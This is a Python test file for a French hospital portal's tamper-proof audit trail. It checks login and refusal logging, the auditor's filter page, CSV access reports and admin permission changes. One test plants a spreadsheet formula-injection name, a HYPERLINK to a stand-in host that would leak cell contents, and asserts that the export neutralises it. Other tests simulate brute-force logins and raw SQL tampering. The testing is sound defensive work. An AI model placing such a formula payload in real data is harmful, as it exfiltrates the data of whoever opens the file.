"""The audit trail, as the data protection officer relies on it.

Events follow DICOM PS3.15 Annex A.5 (IHE ATNA): 110114 User Authentication with 110122
Login / 110123 Logout, 110113 Security Alert (refusals; 110137 User Security Attributes
Changed), 110101 Audit Log Used, 110106 Export. Once written, an event never changes.

tests/test_permission_matrix.py already checks that each patient-data URL writes exactly
one event and that outsiders get 404; here we look at what the events say.
"""

import csv
import datetime as dt
import hashlib
import io
from html.parser import HTMLParser

import pytest
import time_machine
from django.contrib.auth.models import Group, Permission
from django.core.cache import cache
from django.db import DatabaseError, connection, transaction
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation

from portal import audit, services
from portal.audit import Actor
from portal.models import (
    Affiliation,
    AppendOnlyError,
    AuditAction,
    AuditEvent,
    AuditEventId,
    AuditEventType,
    AuditOutcome,
    AuditPurpose,
    CareRole,
)
from tests.conftest import PASSWORD, client_for, make_professional

UTC = dt.UTC
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(autouse=True)
def _fresh_login_rate_limits():
    # allauth counts failed logins in the cache, which outlives a test: start from zero.
    cache.clear()
    yield
    cache.clear()


def _last_event_pk() -> int:
    return AuditEvent.objects.order_by("-pk").values_list("pk", flat=True).first() or 0


def _events_after(pk: int):
    return AuditEvent.objects.filter(pk__gt=pk).order_by("pk")


def _row(event: AuditEvent) -> dict:
    """Every stored column of an event, to compare before and after a refused change."""
    return AuditEvent.objects.filter(pk=event.pk).values().get()


def _login(client: Client, email: str, password: str, **extra):
    return client.post(reverse("account_login"), {"login": email, "password": password}, **extra)


def _signed_in_user_id(client: Client):
    return client.session.get("_auth_user_id")


# --- Append-only ---------------------------------------------------------------------------


@pytest.fixture
def refusal(world) -> AuditEvent:
    """The outsider was refused the patient's record: the kind of event someone may want gone."""
    return audit.record(
        actor=Actor(user=world.outsider.user, ip="198.51.100.7"),
        event=AuditEventId.SECURITY_ALERT,
        action=AuditAction.EXECUTE,
        outcome=AuditOutcome.MINOR_FAILURE,
        patient=world.patient,
        object_type="portal.patient",
        object_id=str(world.patient.pk),
        purpose=AuditPurpose.CARE,
        detail={"reason": "not entitled"},
    )


def test_a_recorded_event_cannot_be_edited_through_the_model(refusal):
    before = _row(refusal)
    refusal.outcome = AuditOutcome.SUCCESS
    refusal.actor_name = "Quelqu'un d'autre"

    with pytest.raises(AppendOnlyError):
        refusal.save()

    assert _row(refusal) == before


def test_a_recorded_event_cannot_be_deleted_through_the_model(refusal):
    with pytest.raises(AppendOnlyError):
        refusal.delete()

    assert AuditEvent.objects.filter(pk=refusal.pk).exists()


@pytest.mark.parametrize(
    "bulk_change",
    [
        pytest.param(
            lambda e: AuditEvent.objects.filter(pk=e.pk).update(outcome=0), id="qs.update"
        ),
        pytest.param(lambda e: AuditEvent.objects.update(outcome=0), id="manager.update"),
        pytest.param(lambda e: AuditEvent.objects.filter(pk=e.pk).delete(), id="qs.delete"),
        pytest.param(lambda e: AuditEvent.objects.all().delete(), id="all.delete"),
        pytest.param(
            lambda e: AuditEvent.objects.bulk_update([AuditEvent(pk=e.pk, outcome=0)], ["outcome"]),
            id="bulk_update",
        ),
        pytest.param(
            lambda e: AuditEvent.objects.update_or_create(pk=e.pk, defaults={"outcome": 0}),
            id="update_or_create",
        ),
    ],
)
def test_bulk_changes_to_the_trail_are_refused(refusal, bulk_change):
    before = _row(refusal)
    count = AuditEvent.objects.count()

    # bulk_update() opens an atomic block without a savepoint: keep the test's own
    # transaction usable by giving it one.
    with pytest.raises(AppendOnlyError), transaction.atomic():
        bulk_change(refusal)

    assert _row(refusal) == before
    assert AuditEvent.objects.count() == count


def test_the_database_refuses_a_raw_sql_update(refusal):
    before = _row(refusal)
    table = connection.ops.quote_name(AuditEvent._meta.db_table)

    # The exception class differs (IntegrityError on SQLite, InternalError on PostgreSQL);
    # both are DatabaseError. The savepoint keeps the test's transaction usable.
    with (
        connection.cursor() as cursor,
        pytest.raises(DatabaseError) as refused,
        transaction.atomic(),
    ):
        cursor.execute(
            f"UPDATE {table} SET outcome = %s, actor_name = %s WHERE id = %s",  # noqa: S608
            [AuditOutcome.SUCCESS, "Quelqu'un d'autre", refusal.pk],
        )

    assert "append-only" in str(refused.value)
    assert _row(refusal) == before


def test_a_forged_instance_reusing_an_event_id_cannot_overwrite_it(refusal):
    # A new instance with an existing pk slips past the model's "not adding" guard;
    # Django then issues an UPDATE, which the database trigger must stop.
    before = _row(refusal)
    forged = AuditEvent(
        pk=refusal.pk,
        event_id=AuditEventId.PATIENT_RECORD,
        action=AuditAction.READ,
        outcome=AuditOutcome.SUCCESS,
        actor_name="Quelqu'un d'autre",
    )

    with pytest.raises((AppendOnlyError, DatabaseError)), transaction.atomic():
        forged.save()

    assert _row(refusal) == before


# --- Authentication --------------------------------------------------------------------------


@pytest.fixture
def radiotherapist(world):
    """Consults in Bourges on Tuesdays, but belongs to the CHRU de Tours (primary)."""
    professional = make_professional(
        email="radiotherapeute@mirc.test",
        first_name="Sophie",
        last_name="Garnier",
        specialty="radiotherapie",
    )
    # The secondary affiliation is created first, so "the first one" would be wrong.
    Affiliation.objects.create(professional=professional, establishment=world.bourges)
    Affiliation.objects.create(
        professional=professional, establishment=world.tours, is_primary=True
    )
    return professional


def test_signing_in_records_who_signed_in_from_where(world, radiotherapist):
    client = Client()
    last = _last_event_pk()

    response = _login(client, "radiotherapeute@mirc.test", PASSWORD)

    assert response.status_code == 302
    assert _signed_in_user_id(client) == str(radiotherapist.user.pk)
    [event] = _events_after(last)
    assert event.event_id == AuditEventId.USER_AUTHENTICATION
    assert event.event_type == AuditEventType.LOGIN
    assert event.action == AuditAction.EXECUTE
    assert event.outcome == AuditOutcome.SUCCESS
    assert event.actor == radiotherapist.user
    assert event.actor_name == "Sophie Garnier"
    assert event.actor_rpps == radiotherapist.rpps
    assert event.actor_establishment == world.tours.finess  # the primary, not Bourges
    assert event.client_ip == "127.0.0.1"
    # The session is traceable without storing the session key, a bearer secret.
    session_key = client.session.session_key
    assert event.session_hash == hashlib.sha256(session_key.encode()).hexdigest()
    assert session_key not in event.session_hash


@pytest.mark.parametrize(
    "typed",
    [
        pytest.param("oncologue@mirc.test", id="known e-mail, wrong password"),
        pytest.param("personne@ailleurs.test", id="unknown e-mail"),
    ],
)
def test_a_failed_sign_in_records_the_typed_email_and_no_actor(world, typed):
    client = Client()
    last = _last_event_pk()

    response = _login(client, typed, "Tr0ub4dor&3-wrong")

    assert response.status_code == 200  # the form again, with an error
    assert _signed_in_user_id(client) is None
    [event] = _events_after(last)
    assert event.event_id == AuditEventId.USER_AUTHENTICATION
    assert event.event_type == AuditEventType.LOGIN
    assert event.action == AuditAction.EXECUTE
    assert event.outcome == AuditOutcome.MINOR_FAILURE
    assert event.actor is None
    assert event.actor_name == typed
    assert event.actor_rpps == ""
    assert event.actor_establishment == ""
    assert event.client_ip == "127.0.0.1"
    # The password typed is never kept, not even in the detail.
    assert "Tr0ub4dor" not in str(_row(event))


def test_signing_out_records_a_logout_tied_to_the_same_session(world):
    client = Client()
    _login(client, "oncologue@mirc.test", PASSWORD)
    login_event = AuditEvent.objects.get(
        event_id=AuditEventId.USER_AUTHENTICATION,
        event_type=AuditEventType.LOGIN,
        actor=world.oncologist.user,
    )
    last = _last_event_pk()

    response = client.post(reverse("account_logout"))

    assert response.status_code == 302
    assert _signed_in_user_id(client) is None
    [event] = _events_after(last)
    assert event.event_id == AuditEventId.USER_AUTHENTICATION
    assert event.event_type == AuditEventType.LOGOUT
    assert event.action == AuditAction.EXECUTE
    assert event.outcome == AuditOutcome.SUCCESS
    assert event.actor == world.oncologist.user
    assert event.actor_rpps == world.oncologist.rpps
    assert event.session_hash
    assert event.session_hash == login_event.session_hash


def test_an_attempt_refused_by_the_login_rate_limit_is_recorded_too(world, settings):
    # allauth refuses an attempt over the "login_failed" rate limit before Django's
    # authenticate() runs (no user_login_failed signal): the trail must still show it,
    # or it would understate a brute-force attack exactly when it is under way.
    settings.ACCOUNT_RATE_LIMITS = {"login_failed": "3/15m/key", "login": "60/m/ip"}
    client = Client()
    for _ in range(3):
        _login(client, "oncologue@mirc.test", "not-the-password")
    last = _last_event_pk()

    # The attacker finally guesses right, but the lock-out holds.
    response = _login(client, "oncologue@mirc.test", PASSWORD)

    assert response.status_code == 200
    assert _signed_in_user_id(client) is None
    refused = _events_after(last).filter(
        event_id=AuditEventId.USER_AUTHENTICATION,
        event_type=AuditEventType.LOGIN,
        outcome=AuditOutcome.MINOR_FAILURE,
    )
    assert refused.count() == 1, "the locked-out attempt is missing from the trail"
    assert refused.get().actor_name == "oncologue@mirc.test"


# --- Client IP behind the reverse proxy --------------------------------------------------------


@pytest.mark.parametrize(
    "proxies,remote_addr,forwarded_for,expected",
    [
        # The proxy appends the address it saw; what the client wrote before it is forged.
        pytest.param(
            1,
            "10.0.0.2",
            "203.0.113.66, 198.51.100.7",
            "198.51.100.7",
            id="one trusted proxy: last hop",
        ),
        pytest.param(
            0,
            "198.51.100.7",
            "203.0.113.66",
            "198.51.100.7",
            id="no proxy: REMOTE_ADDR, forged header ignored",
        ),
    ],
)
def test_the_client_ip_is_the_one_our_proxies_saw(
    world, settings, proxies, remote_addr, forwarded_for, expected
):
    settings.TRUSTED_PROXY_COUNT = proxies
    extra = {"REMOTE_ADDR": remote_addr, "HTTP_X_FORWARDED_FOR": forwarded_for}
    last = _last_event_pk()

    _login(Client(), "oncologue@mirc.test", "not-the-password", **extra)
    client_for(world.oncologist.user).get(
        reverse("patient-detail", args=[world.patient.pk]), **extra
    )

    failed_login = _events_after(last).get(
        event_id=AuditEventId.USER_AUTHENTICATION, outcome=AuditOutcome.MINOR_FAILURE
    )
    record_read = _events_after(last).get(event_id=AuditEventId.PATIENT_RECORD)
    assert failed_login.client_ip == expected
    assert record_read.client_ip == expected
    assert not AuditEvent.objects.filter(client_ip="203.0.113.66").exists()


# --- Refused access ----------------------------------------------------------------------------


def test_an_outsider_opening_a_patient_record_gets_404_and_a_security_alert(world):
    last = _last_event_pk()

    response = client_for(world.outsider.user).get(
        reverse("patient-detail", args=[world.patient.pk])
    )

    assert response.status_code == 404
    assert b"DUPONT" not in response.content.upper()
    [event] = _events_after(last).exclude(event_id=AuditEventId.USER_AUTHENTICATION)
    assert event.event_id == AuditEventId.SECURITY_ALERT
    assert event.action == AuditAction.EXECUTE
    assert event.outcome == AuditOutcome.MINOR_FAILURE
    assert event.actor == world.outsider.user
    assert event.actor_rpps == world.outsider.rpps
    assert event.actor_establishment == world.bourges.finess
    # Linked to the record, so it shows in the patient's access report.
    assert event.patient == world.patient
    assert (event.object_type, event.object_id) == ("portal.patient", str(world.patient.pk))
    assert event.purpose == AuditPurpose.CARE
    # Nothing says the outsider read the record.
    assert not AuditEvent.objects.filter(
        event_id=AuditEventId.PATIENT_RECORD, actor=world.outsider.user
    ).exists()


@pytest.mark.parametrize("missing_id", [987654, 10**30], ids=["unknown id", "id beyond bigint"])
def test_a_non_existent_patient_id_is_refused_the_same_way_without_a_patient(world, missing_id):
    client = client_for(world.outsider.user)
    last = _last_event_pk()

    response = client.get(f"/patients/{missing_id}/")

    assert response.status_code == 404
    [event] = _events_after(last).exclude(event_id=AuditEventId.USER_AUTHENTICATION)
    assert event.event_id == AuditEventId.SECURITY_ALERT
    assert event.outcome == AuditOutcome.MINOR_FAILURE
    assert event.actor == world.outsider.user
    assert event.patient is None
    assert (event.object_type, event.object_id) == ("portal.patient", str(missing_id))


def _study(world):
    from tests.permission_matrix import imaged_study

    return imaged_study(world)["study"]


def _rcp_case(world):
    from tests.rcp_world import case_on_agenda, rcp_world

    rcp_world(world)
    return case_on_agenda(world)


def _expertise_request(world):
    from tests.expertise_world import accepted_request, expertise_world

    expertise_world(world)
    return accepted_request(world)


@pytest.mark.parametrize(
    "route,argument,build,object_type",
    [
        ("study-viewer", "study_id", _study, "imaging.study"),
        ("rcp-case", "case_id", _rcp_case, "rcp.case"),
        ("expertise-request", "request_id", _expertise_request, "expertise.request"),
    ],
    ids=["study", "rcp case", "tele-expertise request"],
)
def test_an_outsiders_refused_access_to_a_patients_object_is_in_her_access_report(
    world, route, argument, build, object_type
):
    """The Bourges radiologist follows neither Jeanne Dupont's CT, nor her RCP case, nor her
    tele-expertise request: he gets 404, and the DPO sees his attempt in her report."""
    found = build(world)
    outsider = client_for(world.outsider.user)

    refused = outsider.get(reverse(route, kwargs={argument: found.pk}))
    missing = outsider.get(reverse(route, kwargs={argument: 987654}))

    assert refused.status_code == missing.status_code == 404
    header, *rows = _csv_rows(_download_report(world, world.patient))
    [attempt] = [row for row in rows if row[1] == "Paul Lefèvre"]
    assert attempt[8] == f"{object_type} {found.pk}"
    assert attempt[2] == world.outsider.rpps
    assert attempt[4] == _label(refused, AuditEventId.SECURITY_ALERT)
    assert attempt[6] == _label(refused, AuditOutcome.MINOR_FAILURE)
    # The id that names nothing is refused too, but belongs to no patient's report.
    assert not any(row[8] == f"{object_type} 987654" for row in rows)
    [nobodys] = AuditEvent.objects.filter(object_type=object_type, object_id="987654")
    assert (nobodys.actor, nobodys.patient) == (world.outsider.user, None)


# --- The audit page ----------------------------------------------------------------------------


def _event_at(when: dt.datetime, *, event_id, user=None, actor_name="", **fields) -> AuditEvent:
    # Written through audit.record, as the portal does (only it seals an event into the
    # chain), with the clock set to the moment the story needs.
    fields.setdefault("action", AuditAction.EXECUTE)
    actor = Actor(user=user) if user is not None else Actor(name=actor_name)
    with time_machine.travel(when, tick=False):
        return audit.record(actor=actor, event=event_id, **fields)


@pytest.fixture
def march_2024(world):
    """A week of trail in March 2024, by name."""
    w = world
    return {
        "oncologist signs in": _event_at(
            dt.datetime(2024, 3, 11, 8, 0, tzinfo=UTC),
            user=w.oncologist.user,
            event_id=AuditEventId.USER_AUTHENTICATION,
            event_type=AuditEventType.LOGIN,
        ),
        "oncologist reads Dupont": _event_at(
            dt.datetime(2024, 3, 11, 8, 5, tzinfo=UTC),
            user=w.oncologist.user,
            event_id=AuditEventId.PATIENT_RECORD,
            action=AuditAction.READ,
            patient=w.patient,
        ),
        "outsider refused Dupont": _event_at(
            dt.datetime(2024, 3, 12, 14, 0, tzinfo=UTC),
            user=w.outsider.user,
            event_id=AuditEventId.SECURITY_ALERT,
            outcome=AuditOutcome.MINOR_FAILURE,
            patient=w.patient,
        ),
        "outsider reads Durand": _event_at(
            dt.datetime(2024, 3, 13, 9, 0, tzinfo=UTC),
            user=w.outsider.user,
            event_id=AuditEventId.PATIENT_RECORD,
            action=AuditAction.READ,
            patient=w.other_patient,
        ),
        "someone fails to sign in": _event_at(
            dt.datetime(2024, 3, 14, 3, 0, tzinfo=UTC),
            actor_name="martin@ailleurs.test",
            event_id=AuditEventId.USER_AUTHENTICATION,
            event_type=AuditEventType.LOGIN,
            outcome=AuditOutcome.MINOR_FAILURE,
        ),
        # 23:30 UTC on the 15th is 00:30 on the 16th in Paris: the date the auditor sees.
        "gp reads Dupont after midnight": _event_at(
            dt.datetime(2024, 3, 15, 23, 30, tzinfo=UTC),
            user=w.gp.user,
            event_id=AuditEventId.PATIENT_RECORD,
            action=AuditAction.READ,
            patient=w.patient,
        ),
    }


AUDIT_FILTERS = {
    "event": (
        lambda w: {"event_id": AuditEventId.SECURITY_ALERT},
        lambda e, w: e.event_id == AuditEventId.SECURITY_ALERT,
    ),
    "outcome": (
        lambda w: {"outcome": AuditOutcome.MINOR_FAILURE},
        lambda e, w: e.outcome == AuditOutcome.MINOR_FAILURE,
    ),
    "actor by name": (
        lambda w: {"actor": "MARTIN"},
        lambda e, w: "martin" in e.actor_name.lower(),
    ),
    "actor by e-mail": (
        lambda w: {"actor": "Oncologue@MIRC.test"},
        lambda e, w: e.actor_id == w.oncologist.user.pk,
    ),
    "actor by RPPS": (
        lambda w: {"actor": w.outsider.rpps},
        lambda e, w: e.actor_rpps == w.outsider.rpps,
    ),
    "date range": (
        lambda w: {"date_from": "2024-03-12", "date_to": "2024-03-15"},
        lambda e, w: (
            dt.date(2024, 3, 12) <= timezone.localtime(e.occurred_at).date() <= dt.date(2024, 3, 15)
        ),
    ),
    "one Paris day": (
        lambda w: {"date_from": "2024-03-16", "date_to": "2024-03-16"},
        lambda e, w: timezone.localtime(e.occurred_at).date() == dt.date(2024, 3, 16),
    ),
    # The page's own 110101 event names the patient too: it must not push the oldest
    # matching event off the page.
    "patient": (
        lambda w: {"patient": w.patient.pk},
        lambda e, w: e.patient_id == w.patient.pk,
    ),
}


@pytest.mark.parametrize("name", sorted(AUDIT_FILTERS))
def test_the_auditor_filters_the_trail(world, march_2024, name):
    params, matches = AUDIT_FILTERS[name]

    response = client_for(world.auditor_user).get(reverse("audit-event-list"), params(world))

    assert response.status_code == 200
    assert not response.context["form"].errors
    shown = list(response.context["page"].object_list)
    assert shown, "the filter matches some events of the week"
    assert all(matches(event, world) for event in shown)
    expected = {label for label, event in march_2024.items() if matches(event, world)}
    shown_labels = {label for label, event in march_2024.items() if event in shown}
    assert shown_labels == expected


def test_the_auditor_sees_the_trail_in_a_table(world, march_2024):
    response = client_for(world.auditor_user).get(reverse("audit-event-list"))

    assert response.status_code == 200
    content = response.content.decode()
    assert "Paul Lefèvre" in content
    assert f"RPPS {world.outsider.rpps}" in content
    assert "martin@ailleurs.test" in content
    # Shown in Paris time: the GP's late reading is on the 16th.
    assert "16/03/2024 00:30:00" in content


def test_reading_the_trail_is_itself_audited(world, march_2024):
    client = client_for(world.auditor_user)
    last = _last_event_pk()

    client.get(reverse("audit-event-list"), {"patient": world.patient.pk, "outcome": 4})

    [event] = _events_after(last)
    assert event.event_id == AuditEventId.AUDIT_LOG_USED
    assert event.action == AuditAction.READ
    assert event.outcome == AuditOutcome.SUCCESS
    assert event.actor == world.auditor_user
    assert event.purpose == AuditPurpose.AUDIT
    assert event.patient == world.patient
    assert f"patient={world.patient.pk}" in event.query
    assert "outcome=4" in event.query


def test_the_auditor_sees_every_event_that_exists_when_opening_the_page(world, march_2024):
    # The page records its own 110101 event; counting before and reading the rows after
    # it would drop the oldest matching event from the page.
    client = client_for(world.auditor_user)
    existing = set(AuditEvent.objects.values_list("pk", flat=True))
    assert len(existing) < 50  # a single page

    response = client.get(reverse("audit-event-list"))

    page = response.context["page"]
    shown = {event.pk for event in page.object_list}
    assert len(shown) == page.paginator.count
    assert existing - shown == set(), "events missing from the auditor's page"


def test_the_audit_page_query_count_does_not_grow_with_the_events(world):
    client = client_for(world.auditor_user)
    people = [world.oncologist.user, world.gp.user, world.outsider.user, world.surgeon.user]
    patients = [world.patient, world.other_patient]
    when = dt.datetime(2024, 3, 11, 8, 0, tzinfo=UTC)

    def add_events(count):
        for n in range(count):
            _event_at(
                when + dt.timedelta(minutes=AuditEvent.objects.count()),
                user=people[n % len(people)],
                patient=patients[n % len(patients)],
                event_id=AuditEventId.PATIENT_RECORD,
                action=AuditAction.READ,
            )

    def queries_for_the_page():
        with CaptureQueriesContext(connection) as captured:
            response = client.get(reverse("audit-event-list"))
        assert response.status_code == 200
        return len(captured), len(response.context["page"].object_list)

    add_events(5)
    few, few_rows = queries_for_the_page()
    add_events(55)
    many, many_rows = queries_for_the_page()

    assert many_rows > few_rows  # the table really shows more rows
    assert many == few


def test_a_professional_without_the_auditor_permission_gets_403(world, march_2024):
    last = _last_event_pk()

    response = client_for(world.oncologist.user).get(
        reverse("audit-event-list"), {"patient": world.patient.pk}
    )

    assert response.status_code == 403
    assert "Paul Lefèvre" not in response.content.decode()
    assert not _events_after(last).filter(event_id=AuditEventId.AUDIT_LOG_USED).exists()


# --- The patient access report (CSV) ------------------------------------------------------------


def _download_report(world, patient):
    return client_for(world.auditor_user).get(reverse("patient-access-report", args=[patient.pk]))


def _csv_rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def _label(response, choice) -> str:
    with translation.override(response["Content-Language"]):
        return str(choice.label)


def test_the_access_report_lists_who_opened_the_record_and_who_was_refused(world):
    client_for(world.oncologist.user).get(reverse("patient-detail", args=[world.patient.pk]))
    client_for(world.outsider.user).get(reverse("patient-detail", args=[world.patient.pk]))
    # The outsider's own patient is none of this report's business.
    client_for(world.outsider.user).get(reverse("patient-detail", args=[world.other_patient.pk]))
    reading = AuditEvent.objects.get(
        event_id=AuditEventId.PATIENT_RECORD, actor=world.oncologist.user
    )

    response = _download_report(world, world.patient)

    assert response.status_code == 200
    header, *rows = _csv_rows(response)
    assert len(header) == 10
    by_actor = {}
    for row in rows:
        assert len(row) == len(header)
        by_actor.setdefault(row[1], []).append(row)
    [opened] = by_actor["Claire Martin"]
    assert opened == [
        timezone.localtime(reading.occurred_at).strftime("%Y-%m-%d %H:%M:%S"),
        "Claire Martin",
        world.oncologist.rpps,
        world.tours.finess,
        _label(response, AuditEventId.PATIENT_RECORD),
        _label(response, AuditAction.READ),
        _label(response, AuditOutcome.SUCCESS),
        _label(response, AuditPurpose.CARE),
        f"portal.patient {world.patient.pk}",
        "127.0.0.1",
    ]
    [refused] = by_actor["Paul Lefèvre"]  # UTF-8 accents survive
    assert refused[2] == world.outsider.rpps
    assert refused[4] == _label(response, AuditEventId.SECURITY_ALERT)
    assert refused[6] == _label(response, AuditOutcome.MINOR_FAILURE)
    assert not any(row[8] == f"portal.patient {world.other_patient.pk}" for row in rows)


def test_downloading_the_report_is_an_audited_csv_attachment(world):
    last = _last_event_pk()

    response = _download_report(world, world.patient)

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert f'filename="acces-patient-{world.patient.pk}-' in disposition
    assert response.content.startswith(b"\xef\xbb\xbf")
    assert response.content[3:].decode("utf-8").splitlines()[0].count(";") == 9
    [event] = _events_after(last).exclude(event_id=AuditEventId.USER_AUTHENTICATION)
    assert event.event_id == AuditEventId.EXPORT
    assert event.action == AuditAction.READ
    assert event.actor == world.auditor_user
    assert event.patient == world.patient
    assert event.purpose == AuditPurpose.AUDIT
    # The export is itself in the report the next time.
    _, *rows = _csv_rows(_download_report(world, world.patient))
    assert any(row[4] == _label(response, AuditEventId.EXPORT) for row in rows)


def test_a_name_that_looks_like_a_formula_is_neutralised_in_the_report(world):
    formula = '=HYPERLINK("http://evil.test/?d="&A1,"Voir")'
    trickster = make_professional(
        email="farceur@mirc.test",
        first_name="",
        last_name=formula,
        specialty="radiologie",
        establishment=world.tours,
    )
    services.care_relationship_add(
        patient=world.patient,
        professional=trickster,
        role=CareRole.CARE_TEAM,
        by=Actor.system("tests"),
    )
    client_for(trickster.user).get(reverse("patient-detail", args=[world.patient.pk]))

    _, *rows = _csv_rows(_download_report(world, world.patient))

    actors = [row[1] for row in rows]
    assert "'" + formula in actors
    assert formula not in actors
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


# --- Security changes in the Django admin ---------------------------------------------------


class _FormFields(HTMLParser):
    """What a browser would submit from one <form>: its fields and their current values."""

    def __init__(self, form_id):
        super().__init__()
        self.form_id = form_id
        self.inside = False
        self.select = None
        self.textarea = None
        self.data: dict[str, list[str]] = {}

    def _add(self, name, value):
        self.data.setdefault(name, []).append(value)

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "form":
            self.inside = attrs.get("id") == self.form_id
        if not self.inside:
            return
        name = attrs.get("name")
        if tag == "input" and name:
            kind = attrs.get("type", "text")
            if kind in ("submit", "button", "image", "reset", "file"):
                return
            if kind in ("checkbox", "radio"):
                if "checked" in attrs:
                    self._add(name, attrs.get("value") or "on")
                return
            self._add(name, attrs.get("value") or "")
        elif tag == "select" and name:
            self.select = name
            self.data.setdefault(name, [])
        elif tag == "option" and self.select and "selected" in attrs:
            self._add(self.select, attrs.get("value", ""))
        elif tag == "textarea" and name:
            self.textarea = name
            self._add(name, "")

    def handle_data(self, data):
        if self.inside and self.textarea:
            self.data[self.textarea][-1] += data

    def handle_endtag(self, tag):
        if tag == "form":
            self.inside = False
        elif tag == "select":
            self.select = None
        elif tag == "textarea":
            self.textarea = None


def _admin_user_form(client, user) -> tuple[str, dict]:
    url = reverse("admin:portal_user_change", args=[user.pk])
    response = client.get(url)
    assert response.status_code == 200
    parser = _FormFields("user_form")
    parser.feed(response.content.decode())
    # Found the form, filled as the page shows it: an active user, not yet staff.
    assert parser.data["email"] == [user.email]
    assert parser.data["is_active"] == ["on"]
    assert "is_staff" not in parser.data
    return url, {**parser.data, "_save": ["Enregistrer"]}


@pytest.fixture
def admin_client(world, settings):
    # The administrator's session must reach the admin whatever MFA_ENFORCE the environment sets.
    settings.MFA_ENFORCE = "none"
    return client_for(world.admin_user)


def _make_staff(data, world):
    data["is_staff"] = ["on"]


def _add_to_rcp_secretaries(data, world):
    group = Group.objects.create(name="Secrétariat RCP")
    data["groups"] = [*data.get("groups", []), str(group.pk)]


def _grant_the_audit_trail(data, world):
    permission = Permission.objects.get(codename="view_auditevent")
    data["user_permissions"] = [*data.get("user_permissions", []), str(permission.pk)]


@pytest.mark.parametrize(
    "change,changed_key,before_value,after_value",
    [
        pytest.param(_make_staff, "is_staff", False, True, id="made staff"),
        pytest.param(
            _add_to_rcp_secretaries, "groups", [], ["Secrétariat RCP"], id="added to a group"
        ),
        pytest.param(
            _grant_the_audit_trail,
            "permissions",
            [],
            ["view_auditevent"],
            id="granted the audit trail",
        ),
    ],
)
def test_an_admin_changing_a_users_security_attributes_is_recorded(
    world, admin_client, change, changed_key, before_value, after_value
):
    coordinator = world.coordinator.user
    url, data = _admin_user_form(admin_client, coordinator)
    change(data, world)
    last = _last_event_pk()

    response = admin_client.post(url, data)

    assert response.status_code == 302, (
        response.context and response.context["adminform"].form.errors
    )
    [event] = _events_after(last)
    assert event.event_id == AuditEventId.SECURITY_ALERT
    assert event.event_type == AuditEventType.USER_SECURITY_ATTRIBUTES_CHANGED
    assert event.action == AuditAction.EXECUTE
    assert event.outcome == AuditOutcome.SUCCESS
    assert event.actor == world.admin_user
    assert (event.object_type, event.object_id) == ("portal.user", str(coordinator.pk))
    before, after = event.detail["before"], event.detail["after"]
    assert (before[changed_key], after[changed_key]) == (before_value, after_value)
    assert {k: v for k, v in before.items() if k != changed_key} == {
        k: v for k, v in after.items() if k != changed_key
    }
    # The "after" is what the database now holds.
    coordinator.refresh_from_db()
    assert after == {
        "is_active": coordinator.is_active,
        "is_staff": coordinator.is_staff,
        "is_superuser": coordinator.is_superuser,
        "groups": sorted(coordinator.groups.values_list("name", flat=True)),
        "permissions": sorted(coordinator.user_permissions.values_list("codename", flat=True)),
    }


def test_saving_a_user_without_changes_records_nothing(world, admin_client):
    url, data = _admin_user_form(admin_client, world.coordinator.user)
    last = _last_event_pk()

    response = admin_client.post(url, data)

    assert response.status_code == 302
    assert not _events_after(last).exists()


def test_a_password_set_by_the_administrator_is_audited(world):
    client = client_for(world.admin_user)
    target = world.coordinator.user
    url = reverse("admin:auth_user_password_change", args=[target.pk])
    response = client.post(
        url,
        {
            "password1": "Nouveau-mot-de-passe-2026",
            "password2": "Nouveau-mot-de-passe-2026",
            "usable_password": "true",
        },
    )
    assert response.status_code == 302
    target.refresh_from_db()
    assert target.check_password("Nouveau-mot-de-passe-2026")
    event = AuditEvent.objects.get(
        event_id=AuditEventId.SECURITY_ALERT, object_type="portal.user", object_id=str(target.pk)
    )
    assert event.actor == world.admin_user
    assert event.event_type == "110137"
